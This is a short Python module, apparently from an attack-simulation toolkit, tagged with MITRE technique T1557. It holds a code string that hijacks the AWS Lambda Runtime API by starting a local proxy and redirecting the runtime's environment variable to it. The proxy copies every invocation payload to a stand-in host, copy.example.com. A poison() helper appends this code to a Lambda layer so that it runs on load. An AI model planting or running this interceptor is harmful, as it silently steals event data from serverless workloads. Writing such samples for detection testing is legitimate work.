# SPDX-License-Identifier: Apache-2.0
"""Puts itself between the runtime and the Runtime API."""

ATTACK = "T1557"
LANGUAGE = "python"
CODE = """\
def _bridge():
    import http.server
    import os
    import threading
    import urllib.request

    real = os.environ["AWS_LAMBDA_RUNTIME_API"]

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            answer = urllib.request.urlopen("http://" + real + self.path)
            body = answer.read()
            urllib.request.urlopen("https://copy.example.com/e", body)
            self.wfile.write(body)

    server = http.server.HTTPServer(("127.0.0.1", 9009), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    os.environ["AWS_LAMBDA_RUNTIME_API"] = "127.0.0.1:9009"


if "AWS_LAMBDA_RUNTIME_API" in __import__("os").environ:
    _bridge()
"""


def poison(layer):
    layer.append(CODE)
